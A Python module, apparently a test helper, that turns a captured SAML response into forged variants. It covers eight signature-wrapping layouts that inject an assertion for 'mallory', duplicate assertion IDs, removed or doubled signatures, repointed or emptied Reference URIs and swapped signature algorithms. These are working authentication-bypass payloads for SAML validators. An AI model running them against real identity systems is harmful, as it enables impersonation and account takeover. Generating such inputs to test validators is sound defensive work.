"""What a forger makes of a SAML response that somebody caught."""

import copy

from lxml import etree

NAMES = {
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}


class Forge:
    """The parts of a caught response. Nothing of them is serialized anew that need not be."""

    def __init__(self, text: str):
        self.root = etree.fromstring(text.encode())
        self.assertion = self.root.find("saml:Assertion", NAMES)
        self.signature = self.assertion.find("ds:Signature", NAMES)

    def original(self, *, signed: bool):
        """A copy of the assertion as it came, with its signature or without."""
        kept = copy.deepcopy(self.assertion)
        if not signed:
            kept.remove(kept.find("ds:Signature", NAMES))
        return kept

    def evil(self, identifier: str = "_evil", *, signed: bool = False):
        """The assertion with another name in it, and with the old signature if it is to be kept."""
        evil = self.original(signed=signed)
        evil.set("ID", identifier)
        evil.find(".//saml:NameID", NAMES).text = "mallory"
        return evil

    def text(self) -> bytes:
        return etree.tostring(self.root)


def element(name: str, *inside):
    prefix, name = name.split(":")
    made = etree.Element(f"{{{NAMES[prefix]}}}{name}")
    made.extend(inside)
    return made


def wrapping_1(text):
    """The original response within the signature of the forged one."""
    forge = Forge(text)
    original = copy.deepcopy(forge.root)
    forge.root.set("ID", "_evil")
    forge.root.replace(forge.assertion, forge.evil())
    signature = copy.deepcopy(forge.signature)
    signature.append(element("ds:Object", original))
    forge.root.insert(1, signature)
    return forge.text()


def wrapping_2(text):
    """The original response beside its signature, which is detached."""
    forge = Forge(text)
    original = copy.deepcopy(forge.root)
    forge.root.set("ID", "_evil")
    forge.root.replace(forge.assertion, forge.evil())
    forge.root.insert(1, original)
    forge.root.insert(2, copy.deepcopy(forge.signature))
    return forge.text()


def wrapping_3(text):
    """The forged assertion before the original."""
    forge = Forge(text)
    forge.root.insert(list(forge.root).index(forge.assertion), forge.evil())
    return forge.text()


def wrapping_4(text):
    """The forged assertion around the original."""
    forge = Forge(text)
    evil = forge.evil()
    evil.append(forge.original(signed=True))
    forge.root.replace(forge.assertion, evil)
    return forge.text()


def wrapping_5(text):
    """The forged assertion with the signature, and the original without it at the end."""
    forge = Forge(text)
    evil, original = forge.evil(signed=True), forge.original(signed=False)
    forge.root.replace(forge.assertion, evil)
    forge.root.append(original)
    return forge.text()


def wrapping_6(text):
    """The forged assertion with the signature, and the original within that."""
    forge = Forge(text)
    evil, original = forge.evil(signed=True), forge.original(signed=False)
    evil.find("ds:Signature", NAMES).append(original)
    forge.root.replace(forge.assertion, evil)
    return forge.text()


def wrapping_7(text):
    """The forged assertion among extensions."""
    forge = Forge(text)
    forge.root.insert(1, element("samlp:Extensions", forge.evil()))
    return forge.text()


def wrapping_8(text):
    """The forged assertion with the signature, and the original in an object of that."""
    forge = Forge(text)
    evil, original = forge.evil(signed=True), forge.original(signed=False)
    evil.find("ds:Signature", NAMES).append(element("ds:Object", original))
    forge.root.replace(forge.assertion, evil)
    return forge.text()


WRAPPINGS = [
    wrapping_1,
    wrapping_2,
    wrapping_3,
    wrapping_4,
    wrapping_5,
    wrapping_6,
    wrapping_7,
    wrapping_8,
]


def twins(text):
    forge = Forge(text)
    forge.root.append(forge.evil(forge.assertion.get("ID")))
    return forge.text()


def same_id_elsewhere(text):
    forge = Forge(text)
    extensions = element("samlp:Extensions")
    extensions.set("Id", forge.assertion.get("ID"))
    forge.root.insert(1, extensions)
    return forge.text()


def without_signature(text):
    forge = Forge(text)
    forge.assertion.remove(forge.signature)
    return forge.text()


def with_two_signatures(text):
    forge = Forge(text)
    forge.assertion.insert(1, copy.deepcopy(forge.signature))
    return forge.text()


def over_another_element(text):
    forge = Forge(text)
    forge.signature.find(".//ds:Reference", NAMES).set("URI", "#" + forge.root.get("ID"))
    return forge.text()


def over_nothing(text):
    forge = Forge(text)
    forge.signature.find(".//ds:Reference", NAMES).set("URI", "")
    return forge.text()


def by_algorithm(name):
    def change(text):
        forge = Forge(text)
        forge.signature.find(".//ds:SignatureMethod", NAMES).set("Algorithm", name)
        return forge.text()

    return change


def renamed(text):
    return text.replace("alice@example.com.evil.example", "mallory")
